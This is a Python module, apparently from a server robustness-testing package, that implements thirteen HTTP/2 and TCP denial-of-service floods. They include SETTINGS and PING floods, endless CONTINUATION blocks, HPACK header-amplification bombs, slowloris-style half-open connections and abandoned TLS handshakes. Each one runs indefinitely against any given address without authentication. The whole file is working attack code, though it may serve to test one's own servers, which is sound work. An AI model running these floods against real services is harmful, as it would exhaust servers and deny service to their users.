"""Floods of what HTTP/2 and TCP let a stranger do before a call begins: the brothers of rapid reset.

Each runs until it is cancelled, on connections of its own, and counts in `Sent` what it did. None needs a token.
Trap: the server may pause reading a connection that has made it owe answers, so a flood that stands still has been met.
"""

from __future__ import annotations

import asyncio
import struct
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from typing import Final

from .resets import PREFACE, Flag, Frame, RawConnection, field, frame, request_headers

_PIECE: Final = 64 * 1024
_HELLO: Final = bytes.fromhex("16030100c8010000c40303")
"""The head of a TLS ClientHello of 200 bytes, whose rest never comes."""


@dataclass(slots=True)
class Sent:
    """What a flood did. `units`: frames, headers or connections, by its kind. `ended`: the server closed one."""

    units: int = 0
    connections: int = 0
    ended: int = 0
    last_words: bytes = b""


async def settings(address: str, sent: Sent) -> None:
    """Empty SETTINGS, each of which must be acknowledged."""
    await _repeat(address, sent, frame(Frame.SETTINGS, Flag.NONE, 0))


async def pings(address: str, sent: Sent) -> None:
    """PINGs, each of which must be answered."""
    await _repeat(address, sent, frame(Frame.PING, Flag.NONE, 0, bytes(8)))


async def window_updates(address: str, sent: Sent) -> None:
    """Grants of one byte for the connection; begins again before the window would overflow."""
    await _repeat(address, sent, frame(Frame.WINDOW_UPDATE, Flag.NONE, 0, struct.pack(">I", 1)))


async def priorities(address: str, sent: Sent) -> None:
    """Frames of a type that nobody knows, which must be skipped."""
    await _repeat(address, sent, struct.pack(">I", 5)[1:] + bytes((2, 0)) + struct.pack(">I", 1) + bytes(5))


async def continuations(address: str, sent: Sent) -> None:
    """One header block that never ends, in pieces of a few bytes."""
    begin = frame(Frame.HEADERS, Flag.NONE, 1, request_headers())
    await _repeat(address, sent, frame(Frame.CONTINUATION, Flag.NONE, 1, field("x", "y")), begin=begin)


async def empty_continuations(address: str, sent: Sent) -> None:
    """The same with pieces of nothing."""
    begin = frame(Frame.HEADERS, Flag.NONE, 1, request_headers())
    await _repeat(address, sent, frame(Frame.CONTINUATION, Flag.NONE, 1), begin=begin)


async def empty_data(address: str, sent: Sent) -> None:
    """DATA of no bytes on an open stream, which no window limits."""
    begin = frame(Frame.HEADERS, Flag.END_HEADERS, 1, request_headers())
    await _repeat(address, sent, frame(Frame.DATA, Flag.NONE, 1), begin=begin)


async def header_bombs(address: str, sent: Sent) -> None:
    """A kilobyte of headers that a table of HPACK makes 400 times as large, on a stream after the other."""
    entry = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"v" * 4000  # into the table: index 62
    stream = 1
    connection = await RawConnection.to(address)
    sent.connections += 1
    try:
        block = request_headers() + entry + b"\xbe" * 1000
        while True:
            if not await connection.send(frame(Frame.HEADERS, Flag.END_HEADERS, stream, block)):
                sent.ended += 1
                await connection.close()
                connection, stream = await RawConnection.to(address), -1
                sent.connections += 1
            stream += 2
            sent.units += 1
            block = request_headers() + b"\xbe" * 1000 if stream > 1 else request_headers() + entry + b"\xbe" * 1000
            await asyncio.sleep(0)
    finally:
        sent.last_words = connection.told.goaway
        await connection.close()


async def large_headers(address: str, sent: Sent) -> None:
    """Calls with as many bytes of headers as are taken, which are left open, on a connection after the other."""
    more = [(f"x-{index}", "v" * 100) for index in range(60)]
    block = request_headers("/grpc.health.v1.Health/Watch", *more)
    held = []
    try:
        while True:
            connection = await RawConnection.to(address)
            held.append(connection)
            sent.connections += 1
            for stream in range(1, 4000, 2):
                if not await connection.send(frame(Frame.HEADERS, Flag.END_HEADERS, stream, block)):
                    sent.ended += 1
                    break
                sent.units += 1
    finally:
        for connection in held:
            await connection.close()


async def churn(address: str, sent: Sent) -> None:
    """Connections that are opened and closed, with a preface."""
    await _connections(address, sent, PREFACE + frame(Frame.SETTINGS, Flag.NONE, 0), keep=0)


async def half_open(address: str, sent: Sent) -> None:
    """Connections that say nothing."""
    await _connections(address, sent, b"", keep=4000)


async def half_preface(address: str, sent: Sent) -> None:
    """Connections that begin HTTP/2 and stop in the middle."""
    await _connections(address, sent, PREFACE[:10], keep=4000)


async def half_handshakes(address: str, sent: Sent) -> None:
    """TLS handshakes that are begun and left."""
    await _connections(address, sent, _HELLO, keep=4000)


FLOODS: Final[tuple[Callable[[str, Sent], Awaitable[None]], ...]] = (
    settings,
    pings,
    window_updates,
    priorities,
    continuations,
    empty_continuations,
    empty_data,
    header_bombs,
    large_headers,
    churn,
    half_open,
    half_preface,
    half_handshakes,
)


async def _repeat(address: str, sent: Sent, unit: bytes, *, begin: bytes = b"") -> None:
    """One frame again and again, on one connection; on another when it is thrown out."""
    many = _PIECE // len(unit)
    piece = unit * many
    while True:
        connection = await RawConnection.to(address)
        sent.connections += 1
        try:
            alive = await connection.send(begin)
            while alive:
                alive = await connection.send(piece)
                sent.units += many if alive else 0
                await asyncio.sleep(0)
            sent.ended += 1
        finally:
            sent.last_words = connection.told.goaway or sent.last_words
            await connection.close()


async def _connections(address: str, sent: Sent, words: bytes, *, keep: int) -> None:
    """Connections one after the other, of which `keep` stay open at a time."""
    host, _, port = address.rpartition(":")
    held: list[asyncio.StreamWriter] = []
    try:
        while True:
            try:
                _, writer = await asyncio.open_connection(host.strip("[]"), int(port))
            except OSError:
                sent.ended += 1
                await asyncio.sleep(0.01)
                continue
            writer.write(words)
            sent.connections += 1
            sent.units += 1
            held.append(writer)
            while len(held) > keep:
                oldest = held.pop(0)
                oldest.close()
                with suppress(OSError):
                    await oldest.wait_closed()
    finally:
        for writer in held:
            writer.close()
